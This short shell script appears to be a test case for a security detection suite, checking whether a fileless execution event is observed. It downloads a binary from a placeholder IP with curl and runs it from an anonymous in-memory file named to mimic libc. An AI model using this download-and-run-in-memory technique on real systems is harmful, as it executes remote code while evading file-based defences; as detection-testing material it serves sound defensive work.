#!/bin/sh
. /opt/case/case.sh

curl -sf http://203.0.113.10/programs/marker | python3 -c '
import os, sys
fd = os.memfd_create("libc.so.6", 0)
while chunk := sys.stdin.buffer.read(4096): os.write(fd, chunk)
os.spawnl(os.P_WAIT, "/bin/sh", "sh", "-c", f"exec /proc/{os.getpid()}/fd/{fd}")'
test -e /tmp/reached
took_place
